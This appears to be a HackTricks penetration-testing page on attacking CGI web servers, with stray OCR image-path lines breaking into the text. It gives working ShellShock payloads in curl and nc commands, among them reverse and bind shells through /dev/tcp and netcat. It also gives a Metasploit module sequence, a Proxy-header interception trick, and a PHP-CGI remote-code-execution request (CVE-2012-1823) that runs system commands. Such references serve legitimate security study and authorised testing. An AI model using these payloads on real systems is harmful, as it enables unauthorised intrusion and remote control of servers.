Learn AWS hacking from zero to hero with htARTE (HackTricks AWS Red Team Expert)!

Other ways to support HackTricks:


The CGI scripts are perl scripts, so, if you have compromised a server that can execute .cgi scripts you can upload a perl reverse shell (/usr/share/webshells/perl/, change the extension from .pl to .cgi, give execute permissions (chmod +x) and access the reverse shell from the web browser to execute it. In order to test for CGI vulns it's recommended to use nikto -C all (and all the plugins)


ShellShock is a vulnerability that affects the widely used Bash command-line shell in Unix-based operating systems. It targets the ability of Bash to run commands passed by applications. The vulnerability lies in the manipulation of environment variables, which aredynamic named values that impact how processes run on a computer. Attackers can exploit this by attaching malicious code to environment variables, which is executed upon receiving the variable. This allows attackers to potentially compromise the system.

Exploiting this vulnerability the page could throw an error.

You could find this vulnerability noticing that it is using an old Apache version and cgi_mod (with cgi folder) or using nikto.


Most tests are based in echo something and expect that that string is returned in the web response. If you think a page may be vulnerable, search for all the cgi pages and test them.


nmap -p 80 --script=http-shellshock --script-args uri=/cgi-bin/admin.cgi

Curl (reflected, blind and out-of-band)

# Reflected
curl -H 'User-Agent: () { :; }; echo "VULNERABLE TO SHELLSHOCK"' 2>/dev/null| grep 'VULNERABLE'
# Blind with sleep (you could also make a ping or web request to yourself and monitor that oth tcpdump)
curl -H 'User-Agent: () { :; }; /bin/bash -c "sleep 5"'
# Out-Of-Band Use Cookie as alternative to User-Agent
curl -H 'Cookie: () { :;}; /bin/bash -i >& /dev/tcp/ 0>&1'




#Bind Shell
$ echo -e "HEAD /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :;}; /usr/bin/nc -l -p 9999 -e /bin/sh\r\nHost: vulnerable\r\nConnection: close\r\n\r\n" | nc vulnerable 8
#Reverse shell
$ echo -e "HEAD /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :;}; /usr/bin/nc 443 -e /bin/sh\r\nHost: vulnerable\r\nConnection: close\r\n\r\n" | nc vulnerable 80#Reverse shell using curl
curl -H 'User-Agent: () { :; }; /bin/bash -i >& /dev/tcp/ 0>&1'
#Reverse shell using metasploit
> use multi/http/apache_mod_cgi_bash_env_exec
> set targeturi /cgi-bin/admin.cgi
> set rhosts
> run

Proxy (MitM to Web server requests)

CGIcreates a environment variable for each header in the http request. For example: "" is created as "HTTP_HOST"=""

As the HTTP_PROXY variable could be used by the web server. Try to send a header containing: "Proxy: <IP_attacker>:<PORT>" and if the server performs any request during the session. You will be able to capture each request made by the server.

Old PHP + CGI = RCE (CVE-2012-1823, CVE-2012-2311)

Basically if cgi is active and php is "old" (<5.3.12 / < 5.4.2) you can execute code. In order t exploit this vulnerability you need to access some PHP file of the web server without sending parameters (specially without sending the character "="). Then, in order to test this vulnerability, you could access for example /index.php?-s (note the -s) and source code of the application will appear in the response.

Then, in order to obtain RCE you can send this special query: /?-d allow_url_include=1 -d auto_prepend_file=php://input and the PHP code to be executed in the body of the request. Example:

curl -i --data-binary "<?php system(\"cat /flag.txt \") ?>" ""

More info about the vuln and possible exploits:, cve-2012-1823, cve-2012-2311, CTF Writeup Example.

Learn AWS hacking from zero to hero with htARTE (HackTricks AWS Red Team Expert)!

Other ways to support HackTricks:

Last updated